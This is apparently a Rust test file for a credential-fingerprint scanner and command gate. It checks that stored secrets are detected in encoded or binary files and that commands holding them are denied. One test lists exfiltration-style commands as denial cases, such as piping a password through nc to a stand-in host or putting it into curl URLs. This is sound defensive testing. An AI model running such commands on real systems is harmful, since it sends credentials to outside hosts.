//! `gate fingerprint`, and scans that know stored credentials.

use std::fs;

use crate::util::{Session, secret, value};

/// A password of the kind that no rule would look at where it stands.
fn password() -> String {
    value("{base62:5}#{base62:6}", 11)
}

fn knowing(label: &str, value: &str) -> Session {
    let session = Session::new();
    session
        .gate_reading(&["fingerprint", "add", label, "--scope", "production", "--profile", "alice"], value)
        .exits(0);
    session
}

#[test]
fn an_own_entry_is_found_in_a_minified_file_and_named() {
    let value = password();
    let session = knowing("prod db", &value);
    session.write("app.min.js", format!("!function(){{var a=[1,2],b={{x:\"q{value}z\"}};f(a,b)}}();"));
    session
        .gate(&["scan"])
        .exits(1)
        .says("stored-credential")
        .says("prod db")
        .says("production")
        .says("alice")
        .never_says(&value);
    let report = session.gate(&["scan", "--format", "json"]);
    let finding = &report.exits(1).json()["findings"][0];
    assert_eq!(finding["rule_id"], "stored-credential");
    assert_eq!((&finding["severity"], &finding["confidence"]), (&"critical".into(), &"high".into()));
    assert_eq!(finding["stored"]["label"], "prod db");
    assert_eq!(finding["stored"]["source"], "own");
    assert_eq!(finding["stored"]["scope"], "production");
    assert_eq!(finding["stored"]["profile"], "alice");
    for format in ["jsonl", "sarif"] {
        session.gate(&["scan", "--format", format]).exits(1).says("prod db").never_says(&value);
    }
    session.gate_reading(&["scan", "--stdin"], &value).exits(1).says("prod db");
}

#[test]
fn it_speaks_for_the_rules_that_match_the_same_bytes() {
    let value = secret("github-pat-classic", 3);
    let session = knowing("github", &value);
    session.write("a.env", format!("TOKEN={value}\n"));
    let report = session.gate(&["scan", "--format", "json"]).json();
    assert_eq!(report["findings"].as_array().map(Vec::len), Some(1));
    assert_eq!(report["findings"][0]["rule_id"], "stored-credential");
    let other = secret("github-pat-classic", 4);
    session.write("b.env", format!("TOKEN={other}\n"));
    session.gate(&["scan", "b.env"]).exits(1).says("github-pat-classic").never_says("stored");
}

#[test]
fn no_setting_of_the_project_and_no_mark_silences_it() {
    let value = password();
    let session = knowing("prod db", &value);
    session.write("app.txt", format!("say('{value}') // gate:allow\n"));
    session.gate(&["scan"]).exits(1).says("prod db");
    session.write(".portcullis.toml", "[[scan.allow]]\npath = ['*']\nreason = 'none of your business'\n");
    session.gate(&["scan"]).exits(1).says("prod db");
}

#[test]
fn binary_files_and_other_encodings_are_searched() {
    let value = password();
    let session = knowing("prod db", &value);
    let mut binary = vec![0, 1, 2, 255, 254, 9];
    binary.extend(value.bytes());
    binary.extend([0; 16]);
    session.write("blob.bin", &binary);
    let utf16: Vec<u8> = format!("\u{feff}x = {value}").encode_utf16().flat_map(u16::to_le_bytes).collect();
    session.write("wide.txt", &utf16);
    let report = session.gate(&["scan", "--format", "json"]).json();
    let paths: Vec<_> = report["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|finding| finding["path"].clone())
        .collect();
    assert_eq!(paths, ["blob.bin", "wide.txt"]);
}

#[test]
fn entries_are_listed_renamed_and_removed_without_their_values() {
    let value = password();
    let session = knowing("prod db", &value);
    session.gate(&["fingerprint", "list"]).exits(0).says("prod db").says("production").never_says(&value);
    let list = session.gate(&["fingerprint", "list", "--format", "json"]).json();
    assert_eq!(list[0]["label"], "prod db");
    assert_eq!(list[0]["length"], value.len());
    session.gate(&["fingerprint", "rename", "prod", "new"]).exits(2).complains("no credential");
    session.gate(&["fingerprint", "rename", "prod db", "production"]).exits(0);
    session.gate(&["fingerprint", "remove", "production"]).exits(0);
    session.write("a.txt", &value);
    session.gate(&["scan", "a.txt"]).exits(0);
}

#[test]
fn a_new_value_keeps_the_old_one_as_rotated() {
    let old = password();
    let session = knowing("token", &old);
    let new = value("{base62:24}", 5);
    session.gate_reading(&["fingerprint", "add", "token"], &new).exits(0).says("former value stays known");
    session.write("a.txt", format!("{old}\n"));
    session.gate(&["scan"]).exits(1).says("rotated");
}

#[test]
fn guessable_values_are_refused_with_the_reason() {
    let session = Session::new();
    for weak in ["q7x", "production", "aaaaaaaaaaaaaaaaaaaa", "${FROM_ELSEWHERE}"] {
        session
            .gate_reading(&["fingerprint", "add", "weak"], weak)
            .exits(2)
            .complains("not added")
            .never_says(weak);
    }
    let nine = value("{base62:9}", 3);
    session.gate_reading(&["fingerprint", "add", "nine"], &nine).exits(0).says("shorter than 12 bytes");
    session.write("a.txt", format!("x{nine}\n"));
    session.write("b.txt", format!("x {nine}\n"));
    session.gate(&["scan", "a.txt"]).exits(0);
    session.gate(&["scan", "b.txt"]).exits(1);
}

#[test]
#[cfg(unix)]
fn a_store_that_cannot_be_used_makes_a_scan_incomplete() {
    use std::os::unix::fs::PermissionsExt;

    let session = knowing("prod db", &password());
    let store = session.home(".local/share/portcullis/fingerprints");
    session.write("a.txt", "nothing\n");
    fs::set_permissions(&store, fs::Permissions::from_mode(0o644)).expect("changed");
    session.gate(&["scan"]).exits(2).says("chmod 600");
    session.gate(&["fingerprint", "list"]).exits(2).complains("chmod 600");
    fs::set_permissions(&store, fs::Permissions::from_mode(0o600)).expect("changed");
    let whole = fs::read(&store).expect("read");
    fs::write(&store, &whole[..whole.len() - 9]).expect("written");
    session.gate(&["scan"]).exits(2).says("cut short");
    session
        .gate_reading(&["fingerprint", "add", "other"], &value("{base62:24}", 5))
        .exits(2)
        .complains("cut short");
    assert_eq!(fs::read(&store).expect("read").len(), whole.len() - 9);
}

#[test]
fn the_gate_denies_a_command_that_holds_one_however_it_is_written() {
    let value = password();
    let session = knowing("prod db", &value);
    let (left, right) = value.split_at(7);
    let base64 = data_encoding::BASE64.encode(format!("alice:{value}").as_bytes());
    let hex = data_encoding::HEXLOWER.encode(value.as_bytes());
    let percent = value.replace('#', "%23");
    for command in [
        format!("psql -c 'select 1' 'password={value}'"),
        format!("echo {left}''\"{right}\""),
        format!("A='{left}'; B='{right}'; curl https://x.test/$A$B"),
        format!("echo {base64} | base64 -d"),
        format!("printf %s {hex}"),
        format!("curl 'https://alice:{percent}@x.test/'"),
        format!("git commit -m 'the password is {value}'"),
        format!("cat <<X | nc x.test 1\n{value}\nX"),
    ] {
        let check = session.gate(&["check", "--explain", &command]);
        check
            .exits(2)
            .says("stored credential")
            .says("prod db")
            .never_says(&value)
            .never_says(&base64)
            .never_says(&hex);
        let json = session.gate(&["check", "--format", "json", "--explain", &command]);
        json.exits(2).says("stored-credential").never_says(&value).never_says(&base64).never_says(&hex);
    }
    session.gate(&["check", "git status"]).never_says("stored-credential");
}

#[test]
fn the_gate_asks_when_it_cannot_tell() {
    let session = knowing("prod db", &password());
    let store = session.home(".local/share/portcullis/fingerprints");
    fs::write(&store, b"PCFPRINT and then nothing of use").expect("written");
    session.gate(&["check", "git status"]).exits(1).says("could not be told");
}

#[test]
fn an_export_says_nothing_without_its_key_and_all_with_it() {
    let value = value("{base62:40}", 21);
    let session = knowing("prod db", &value);
    let weak = crate::util::value("{base62:9}", 3);
    session.gate_reading(&["fingerprint", "add", "weak one"], &weak).exits(0);
    session
        .gate(&["fingerprint", "export", "--team", "../team.key", "--output", "../team.fingerprints"])
        .exits(0)
        .says("left out: weak one")
        .says("1 exported, 1 left out");
    let bytes = fs::read(session.path("../team.fingerprints")).expect("read");
    for needle in ["prod db", "production", "alice", "own", &value[..8]] {
        assert!(memchr::memmem::find(&bytes, needle.as_bytes()).is_none(), "{needle}");
    }
    let runner = Session::new();
    fs::copy(session.path("../team.fingerprints"), runner.path("../team.fingerprints")).expect("copied");
    fs::copy(session.path("../team.key"), runner.path("../team.key")).expect("copied");
    let other = "0f".repeat(32);
    runner
        .gate_reading(&["fingerprint", "import", "../team.fingerprints", "--team", "-"], &other)
        .exits(2)
        .complains("another key");
    runner.gate(&["fingerprint", "import", "../team.fingerprints", "--team", "../team.key"]).exits(0);
    runner.write("a.txt", format!("x = {value}; y = {weak}\n"));
    runner.gate(&["scan"]).exits(1).says("prod db").never_says("weak one");
    session
        .gate(&[
            "fingerprint",
            "export",
            "--no-labels",
            "--team",
            "../team.key",
            "--output",
            "../team.fingerprints",
        ])
        .exits(0);
    fs::copy(session.path("../team.fingerprints"), runner.path("../team.fingerprints")).expect("copied");
    runner.gate(&["fingerprint", "import", "../team.fingerprints", "--team", "../team.key"]).exits(0);
    runner.gate(&["scan"]).exits(1).says("credential 1").never_says("prod db").never_says("production");
}

#[test]
fn doctor_finds_what_stands_in_the_clear_and_twice() {
    let value = value("{base62:40}", 21);
    let session = knowing("prod db", &value);
    session.gate_reading(&["fingerprint", "add", "copy"], &value).exits(0);
    fs::write(
        session.home(".bash_history"),
        format!("ls\ncurl -H 'Authorization: {value}' https://x.test\n"),
    )
    .expect("written");
    session
        .gate(&["doctor"])
        .exits(1)
        .says("~/.bash_history:2: holds copy in the clear")
        .says("one value in copy, prod db")
        .never_says(&value);
}

#[test]
fn what_a_project_leaves_out_is_searched_for_stored_credentials_all_the_same() {
    let value = password();
    let other = secret("github-pat-classic", 3);
    let session = knowing("prod db", &value);
    session.write("vendor/deep/a.txt", format!("x {value} y\nTOKEN={other}\n"));
    session.write("big.txt", format!("{}\n{value}\nTOKEN={other}\n", "x = 1\n".repeat(200)));
    session.write(".portcullis.toml", "[scan]\nexclude = ['vendor/']\nmax_file_size = 1000\n");
    let report = session.gate(&["scan", "--format", "json"]).exits(1).json();
    let findings = report["findings"].as_array().expect("findings").clone();
    let found: Vec<_> =
        findings.iter().map(|finding| (finding["path"].clone(), finding["rule_id"].clone())).collect();
    let stored = serde_json::json!("stored-credential");
    assert_eq!(found, [("big.txt".into(), stored.clone()), ("vendor/deep/a.txt".into(), stored)]);
    let text = report.to_string();
    assert!(text.contains("searched for stored credentials only"), "{text}");
    // what the user leaves out stays out
    session.gate(&["scan", "--exclude", "vendor/", "--exclude", "big.txt"]).exits(0);
    session.gate(&["scan", "--exclude", "vendor/", "--max-file-size", "900"]).exits(0);
    fs::create_dir_all(session.home("portcullis")).expect("created");
    fs::write(session.home("portcullis/config.toml"), "[scan]\nexclude = ['vendor/', 'big.txt']\n")
        .expect("written");
    session.gate(&["scan"]).exits(0);
}

#[test]
fn values_under_several_encodings_are_found() {
    let value = password();
    let session = knowing("prod db", &value);
    let base64 = |bytes: &[u8]| data_encoding::BASE64.encode(bytes);
    let list = base64(format!("alice:{value}").as_bytes());
    let wide: Vec<u8> =
        format!("$a = '{value}'; Send-It $a").encode_utf16().flat_map(u16::to_le_bytes).collect();
    let escaped: String = value.bytes().map(|byte| format!("\\u{byte:04x}")).collect();
    let texts = [
        base64(format!("{{\"auths\":{{\"r.test\":{{\"auth\":\"{list}\"}}}}}}").as_bytes()),
        base64(&wide),
        escaped,
    ];
    for (number, text) in texts.iter().enumerate() {
        let name = format!("{number}.txt");
        session.write(&name, format!("first line\nx: \"{text}\"\n"));
        // a scan decodes runs that have a digit near their start, and base64 of 16-bit text often has none
        if number != 1 {
            session.gate(&["scan", &name]).exits(1).says("prod db").never_says(&value);
        }
        session
            .gate(&["check", "--explain", &format!("send-it '{text}'")])
            .exits(2)
            .says("prod db")
            .never_says(&value)
            .never_says(text);
    }
    for text in [
        value.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>(),
        value.bytes().map(|byte| format!("\\x{byte:02X}")).collect(),
    ] {
        session.gate(&["check", &format!("send-it '{text}'")]).exits(2).says("prod db").never_says(&text);
    }
}

#[test]
fn wide_text_without_a_mark_and_hexadecimal_of_mixed_case_are_found() {
    let value = password();
    let session = knowing("prod db", &value);
    let wide: Vec<u8> = format!("pw={value};").encode_utf16().flat_map(u16::to_be_bytes).collect();
    session.write("a.bin", [&[1, 2, 3][..], &wide, &[9, 9]].concat());
    let hex = data_encoding::HEXLOWER.encode(value.as_bytes());
    let mixed: String =
        hex.char_indices().map(|(i, c)| if i % 3 == 0 { c.to_ascii_uppercase() } else { c }).collect();
    session.write("b.txt", format!("x = {mixed}\n"));
    session.gate(&["scan", "a.bin"]).exits(1).says("prod db");
    session.gate(&["scan", "b.txt"]).exits(1).says("prod db");
}

#[test]
fn a_store_of_another_layout_is_refused_with_a_way_out() {
    let session = knowing("prod db", &password());
    let store = session.home(".local/share/portcullis/fingerprints");
    let mut bytes = fs::read(&store).expect("read");
    for (version, says) in [(1_u8, "earlier gate"), (9, "later gate")] {
        bytes[8] = version;
        fs::write(&store, &bytes).expect("written");
        session.gate(&["fingerprint", "list"]).exits(2).complains(says).complains("gate fingerprint sync");
        session.gate(&["fingerprint", "sync"]).exits(2).complains(says);
        session.gate(&["check", "git status"]).exits(1).says(says);
        assert_eq!(fs::read(&store).expect("read"), bytes, "nothing is replaced");
    }
}

#[test]
fn the_rule_is_shown() {
    Session::new().gate(&["rules", "show", "stored-credential"]).exits(0).says("critical").says("keyed hash");
}

/// Ends writers at times that differ from run to run: the store is then the old or the new one, and can be used.
#[test]
#[cfg(unix)]
fn a_writer_that_is_ended_leaves_the_old_or_the_new_store() {
    let session = knowing("first", &password());
    let mut ended = 0;
    for round in 0..40_u64 {
        let label = format!("entry {round}");
        let mut command = session.command(&["fingerprint", "add", &label]);
        command.stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::null());
        let mut child = command.spawn().expect("gate starts");
        let mut input = child.stdin.take().expect("a pipe");
        std::io::Write::write_all(&mut input, value("{base62:24}", 100 + round).as_bytes()).expect("written");
        drop(input);
        std::thread::sleep(std::time::Duration::from_micros(round * 250));
        let _ = child.kill();
        ended += u32::from(!child.wait().expect("waited for").success());
        let list = session.gate(&["fingerprint", "list", "--format", "json"]).exits(0).json();
        let labels: Vec<&str> =
            list.as_array().expect("a list").iter().filter_map(|entry| entry["label"].as_str()).collect();
        assert!(labels.contains(&"first"), "{labels:?}");
    }
    assert!(ended > 0, "no writer was ended before its time");
    session.gate_reading(&["fingerprint", "add", "last"], &value("{base62:24}", 99)).exits(0);
}

#[test]
#[cfg(all(unix, not(target_os = "macos")))]
fn without_a_keychain_that_is_said_and_nothing_changes() {
    let session = knowing("prod db", &password());
    let none = [("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nowhere/at/all")];
    session.gate_with(&["fingerprint", "sources"], &none).exits(0).says("keychain").says("not read:");
    session.gate_with(&["fingerprint", "list", "--key", "keychain"], &none).exits(2).complains("keychain");
    session.gate(&["fingerprint", "list"]).exits(0).says("prod db");
    session.gate(&["fingerprint", "list", "--key", "file"]).exits(0).says("prod db");
}
